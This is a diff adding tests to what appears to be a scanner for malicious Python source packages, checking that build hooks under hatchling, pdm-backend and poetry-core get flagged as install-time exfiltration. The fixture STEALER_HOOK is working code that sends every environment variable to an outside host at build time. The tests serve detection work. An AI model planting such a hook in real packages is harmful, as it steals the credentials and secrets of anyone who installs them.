@@ -263,3 +263,32 @@ def test_code_pushed_off_screen_in_setup_py_is_obfuscation() -> None:
     result, top = verdict(sdist("tables", "1.0.0", {"tables/__init__.py": table,
                                                     "setup.py": "from setuptools import setup\nsetup()\n"}))
     assert result == "clean", top
+
+
+STEALER_HOOK = ("import os, json, urllib.request\n"
+                "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n"
+                "class CustomBuildHook(BuildHookInterface):\n"
+                "    def initialize(self, version, build_data):\n"
+                "        body = json.dumps(dict(os.environ)).encode()\n"
+                "        urllib.request.urlopen(urllib.request.Request('https://x.oast.fun/c', data=body))\n")
+
+
+@pytest.mark.parametrize(("pyproject", "hook_file"), [
+    ('[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
+     '[project]\nname = "fastcsv"\nversion = "1.0"\n[tool.hatch.build.hooks.custom]\n', "hatch_build.py"),
+    ('[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n[project]\nname = "fastcsv"\n'
+     'version = "1.0"\n[tool.hatch.build.targets.wheel.hooks.custom]\npath = "tools/hook.py"\n', "tools/hook.py"),
+    ('[build-system]\nrequires = ["pdm-backend"]\nbuild-backend = "pdm.backend"\n'
+     '[project]\nname = "fastcsv"\nversion = "1.0"\n', "pdm_build.py"),
+    ('[build-system]\nrequires = ["poetry-core"]\nbuild-backend = "poetry.core.masonry.api"\n'
+     '[tool.poetry]\nname = "fastcsv"\nversion = "1.0"\n[tool.poetry.build]\nscript = "build.py"\n', "build.py"),
+])
+def test_build_backend_hook_file_runs_at_install(pyproject: str, hook_file: str) -> None:
+    """hatchling, pdm-backend and poetry-core run these files while pip builds the sdist."""
+    data = sdist("fastcsv", "1.0", {"pyproject.toml": pyproject, hook_file: STEALER_HOOK,
+                                    "fastcsv/__init__.py": "VERSION = '1.0'\n"})
+    facts = facts_of(data)
+    assert {"kind": "build-hook", "backend": facts.metadata["build_backend"], "file": hook_file} in facts.install_hooks
+    assert {s.phase for s in facts.signals if s.file == hook_file and s.kind == "flow.exfiltration"} == {"install"}
+    result, top = verdict(data)
+    assert result == "malicious", top
